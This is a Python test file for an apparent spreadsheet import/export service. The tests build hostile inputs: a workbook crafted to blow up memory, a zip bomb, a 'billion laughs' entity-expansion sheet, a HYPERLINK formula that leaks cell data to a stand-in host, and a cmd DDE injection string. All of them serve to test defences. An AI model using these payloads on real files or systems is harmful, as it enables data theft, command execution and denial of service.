"""Files in and out: exports never hold live formulas and never fail on a stored string; imports refuse
crafted workbooks quickly with bounded memory; any cell content gives a row report, never an exception."""

from __future__ import annotations

# ruff: noqa: E501  (the OOXML boilerplate below is clearer on one line per element)
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from matcher.domain.demand import COLUMNS as DEMAND_COLUMNS
from matcher.domain.talent import COLUMNS as TALENT_COLUMNS
from matcher.services.files.exporting import export_xlsx
from matcher.services.files.importing import MAX_ROWS, import_file
from matcher.storage.models import Demand, Enterprise
from matcher.tabular import Column, parse_row

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>"""
RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>
</Relationships>"""
WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="talents" sheetId="1" r:id="rId1"/></sheets></workbook>"""
WB_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
</Relationships>"""


def crafted_xlsx(path: Path, rows: int, filler: str = "") -> Path:
    """A hand-made workbook: a real header, then ``rows`` rows each holding one cell in the last column
    Excel has (XFD), declared as covering the whole sheet — the shape that made pandas expand a
    sub-megabyte upload into gigabytes. ``filler`` adds a highly compressible blob to the sheet."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        with z.open("xl/worksheets/sheet1.xml", "w") as fh:
            fh.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                     b'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
                     b'<row r="1"><c r="A1" t="inlineStr"><is><t>external_id</t></is></c>'
                     b'<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
                     b'<c r="C1" t="inlineStr"><is><t>profile</t></is></c></row>')
            for start in range(2, rows + 2, 10_000):
                fh.write("".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>'
                                 for r in range(start, min(rows + 2, start + 10_000))).encode())
            if filler:
                fh.write(f"<!--{filler}-->".encode())
            fh.write(b"</sheetData></worksheet>")
    return path


def test_far_right_cells_are_refused_quickly_with_bounded_memory(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = crafted_xlsx(tmp_path / "wide.xlsx", MAX_ROWS + 50_000)
    assert path.stat().st_size < 8 * 2**20
    tracemalloc.start()
    started = time.perf_counter()
    report = import_file(db, "talents", path)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert not report.ok and any("rows" in e.reason for e in report.errors), report.errors
    assert elapsed < 60, elapsed
    assert peak < 400 * 2**20, f"peak {peak / 2**20:.0f} MiB"  # rows of 3 cells, not 16,384 columns each


def test_a_zip_bomb_is_refused_before_parsing(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = crafted_xlsx(tmp_path / "bomb.xlsx", 10, filler=" " * (64 * 2**20))
    assert path.stat().st_size < 2**20
    started = time.perf_counter()
    report = import_file(db, "talents", path)
    assert time.perf_counter() - started < 5
    assert not report.ok and "compressed" in report.errors[0].reason


def test_entity_expansion_is_refused(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A sheet whose XML defines nested entities (a "billion laughs") is refused, not expanded."""
    path = crafted_xlsx(tmp_path / "laughs.xlsx", 1)
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    laughs = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>")
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace("<worksheet", laughs + "<worksheet", 1).replace("<t>name</t>", "<t>&lol9;</t>")
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    started = time.perf_counter()
    report = import_file(db, "talents", path)
    assert time.perf_counter() - started < 5
    assert not report.ok and report.errors[0].row == 0, report.errors


def test_damaged_workbook_is_a_report(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "broken.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    report = import_file(db, "talents", path)
    assert not report.ok and report.errors[0].row == 0


def test_huge_numbers_in_integer_columns_are_row_errors(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "t.csv"
    path.write_text("external_id,name,profile,patents,projects\nA-1,王磊,从事煤气化研究,1e400,2\n"
                    "A-2,李娜,从事视觉检测研究,3,nan\n", encoding="utf-8")
    report = import_file(db, "talents", path)
    assert not report.ok
    assert {(e.row, e.column) for e in report.errors} == {(2, "patents"), (3, "projects")}


def test_export_writes_formulas_and_control_characters_as_text(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://x.example/?"&talents!U2&talents!V2,"点击查看")'
    with db.session() as s:
        ent = Enterprise(name="测试企业")
        s.add(ent)
        s.add_all([Demand(enterprise=ent, external_id="E-1", title=evil, description="+1+cmd|' /C calc'!A0"),
                   Demand(enterprise=ent, external_id="E-2", title="退格\b字符", description="@SUM(1+1)")])
    path = tmp_path / "out.xlsx"
    export_xlsx(db, path, with_contact=True)
    ws = openpyxl.load_workbook(path)["demands"]
    header = [c.value for c in ws[1]]
    title, description = header.index("title") + 1, header.index("description") + 1
    cells = {ws.cell(r, title).value: ws.cell(r, title) for r in (2, 3)}
    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert "退格\ufffd字符" in cells
    assert ws.cell(2, description).data_type == "s" and ws.cell(3, description).quotePrefix


ANY_CELL = st.one_of(st.text(max_size=60), st.sampled_from(
    ["1e400", "-1", "nan", "inf", "1.5", "科技副总:99999999999", "正高", "2027-02-30", "\x00", "9" * 40, "晋籍、火星"]))


@pytest.mark.parametrize("columns", [TALENT_COLUMNS, DEMAND_COLUMNS], ids=["talents", "demands"])
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_row_parses_or_reports(columns: tuple[Column, ...], data: st.DataObject) -> None:
    cells = data.draw(st.dictionaries(st.sampled_from([c.name for c in columns]), ANY_CELL))
    values, problems = parse_row(columns, cells)
    assert all(isinstance(c, str) and isinstance(r, str) and r for c, r in problems)
    if not problems:  # only what the row holds: every non-empty cell parsed, nothing else invented
        assert set(values) == {k for k, v in cells.items() if v.strip()}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_event_exports_write_user_text_as_text(db, tmp_path: Path, suffix: str) -> None:  # type: ignore[no-untyped-def]
    """A rejection reason typed as a formula reaches the analyst's spreadsheet as the text it is."""
    from matcher.services.learning.decisions import export_events, record_decision

    with db.session() as s:
        record_decision(s, "rejected", 1, 2, "flexible", reason='=HYPERLINK("http://x.example","点击")')
    path = tmp_path / f"events{suffix}"
    assert export_events(db, path) == 1
    if suffix == ".csv":
        cell = pd.read_csv(path, dtype=str)["reason"][0]
        assert cell.startswith("'=HYPERLINK")
    else:
        ws = openpyxl.load_workbook(path)["events"]
        reason = next(c for c in ws[2] if isinstance(c.value, str) and "HYPERLINK" in c.value)
        assert reason.data_type == "s" and reason.quotePrefix
